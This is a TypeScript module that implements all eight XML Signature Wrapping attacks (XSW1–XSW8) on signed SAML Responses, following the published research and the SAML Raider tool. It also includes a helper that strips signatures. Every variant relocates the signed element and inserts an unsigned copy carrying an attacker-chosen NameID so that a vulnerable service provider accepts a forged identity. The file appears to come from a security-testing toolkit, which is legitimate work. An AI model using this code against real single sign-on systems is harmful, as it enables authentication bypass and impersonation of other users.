/**
 * XML Signature Wrapping (XSW) attacks on a signed Response, as catalogued by Somorovsky et al.,
 * "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012) and implemented by the
 * SAML Raider Burp extension. Each variant keeps the signed element somewhere the signature
 * reference still finds it, and puts an unsigned, attacker-chosen element where a naive SP reads
 * the identity. XSW1–2 target the Response signature, XSW3–8 the Assertion signature.
 */
import { children, DSIG, element, parseXml, SAML, SAMLP, serializeXml } from './samlForge.js';

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const XSW_VARIANTS: readonly XswVariant[] = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];
/** Which signature a variant abuses: the Response's or the Assertion's. */
export const XSW_TARGET: Record<XswVariant, 'response' | 'assertion'> = {
  XSW1: 'response',
  XSW2: 'response',
  XSW3: 'assertion',
  XSW4: 'assertion',
  XSW5: 'assertion',
  XSW6: 'assertion',
  XSW7: 'assertion',
  XSW8: 'assertion',
};

const EVIL_RESPONSE_ID = '_evil_response';
const EVIL_ASSERTION_ID = '_evil_assertion';

/** Makes an assertion (or a response's assertion) say `nameId`. */
function makeEvil(node: Element, nameId: string): void {
  const nameIdElement = element(node, SAML, 'NameID');
  while (nameIdElement.firstChild) nameIdElement.removeChild(nameIdElement.firstChild);
  nameIdElement.appendChild(node.ownerDocument.createTextNode(nameId));
}

const signatureOf = (parent: Element): Element => {
  const found = children(parent, 'Signature').find((s) => s.namespaceURI === DSIG);
  if (!found) throw new Error(`${parent.localName} is not signed: this XSW variant needs its signature`);
  return found;
};

const assertionOf = (response: Element): Element => {
  const found = children(response, 'Assertion')[0];
  if (!found) throw new Error('no Assertion');
  return found;
};

/** Applies an XSW variant to a signed Response so that the unsigned copy names `evilNameId`. */
export function wrapSignature(signedXml: string, variant: XswVariant, evilNameId: string): string {
  const doc = parseXml(signedXml);
  const response = doc.documentElement;
  switch (variant) {
    case 'XSW1': {
      // The signed original moves inside its own Signature; the root becomes an evil copy.
      const original = response.cloneNode(true) as Element;
      original.removeChild(signatureOf(original));
      signatureOf(response).appendChild(original);
      response.setAttribute('ID', EVIL_RESPONSE_ID);
      makeEvil(assertionOf(response), evilNameId);
      break;
    }
    case 'XSW2': {
      // As XSW1, with the signed original placed before the Signature (a detached signature).
      const original = response.cloneNode(true) as Element;
      original.removeChild(signatureOf(original));
      response.insertBefore(original, signatureOf(response));
      response.setAttribute('ID', EVIL_RESPONSE_ID);
      makeEvil(assertionOf(response), evilNameId);
      break;
    }
    case 'XSW3': {
      // An unsigned evil assertion placed before the signed one.
      const assertion = assertionOf(response);
      const evil = assertion.cloneNode(true) as Element;
      evil.removeChild(signatureOf(evil));
      evil.setAttribute('ID', EVIL_ASSERTION_ID);
      makeEvil(evil, evilNameId);
      response.insertBefore(evil, assertion);
      break;
    }
    case 'XSW4': {
      // The evil assertion replaces the signed one and wraps it.
      const assertion = assertionOf(response);
      const evil = assertion.cloneNode(true) as Element;
      evil.removeChild(signatureOf(evil));
      evil.setAttribute('ID', EVIL_ASSERTION_ID);
      makeEvil(evil, evilNameId);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      break;
    }
    case 'XSW5': {
      // The evil assertion keeps the signature; the signed original, stripped of it, goes to the end.
      const assertion = assertionOf(response);
      const evil = assertion.cloneNode(true) as Element;
      evil.setAttribute('ID', EVIL_ASSERTION_ID);
      makeEvil(evil, evilNameId);
      assertion.removeChild(signatureOf(assertion));
      response.replaceChild(evil, assertion);
      response.appendChild(assertion);
      break;
    }
    case 'XSW6': {
      // As XSW5, with the stripped original inside the evil assertion's Signature.
      const assertion = assertionOf(response);
      const evil = assertion.cloneNode(true) as Element;
      evil.setAttribute('ID', EVIL_ASSERTION_ID);
      makeEvil(evil, evilNameId);
      assertion.removeChild(signatureOf(assertion));
      response.replaceChild(evil, assertion);
      signatureOf(evil).appendChild(assertion);
      break;
    }
    case 'XSW7': {
      // The signed original hides in an Extensions element; an unsigned evil copy takes its place.
      const assertion = assertionOf(response);
      const evil = assertion.cloneNode(true) as Element;
      evil.removeChild(signatureOf(evil));
      makeEvil(evil, evilNameId);
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.replaceChild(evil, assertion);
      extensions.appendChild(assertion);
      response.insertBefore(extensions, evil);
      break;
    }
    case 'XSW8': {
      // The evil assertion carries the Signature, with the stripped original in a ds:Object.
      const assertion = assertionOf(response);
      const evil = assertion.cloneNode(true) as Element;
      makeEvil(evil, evilNameId);
      response.replaceChild(evil, assertion);
      assertion.removeChild(signatureOf(assertion));
      const object = doc.createElementNS(DSIG, 'ds:Object');
      object.appendChild(assertion);
      signatureOf(evil).appendChild(object);
      break;
    }
    default: {
      const unreachable: never = variant;
      throw new Error(`unknown variant ${String(unreachable)}`);
    }
  }
  return serializeXml(doc);
}

/** Removes the Signature of the Response and/or the Assertion. */
export function stripSignature(signedXml: string, from: 'response' | 'assertion'): string {
  const doc = parseXml(signedXml);
  const parent = from === 'response' ? doc.documentElement : assertionOf(doc.documentElement);
  parent.removeChild(signatureOf(parent));
  return serializeXml(doc);
}
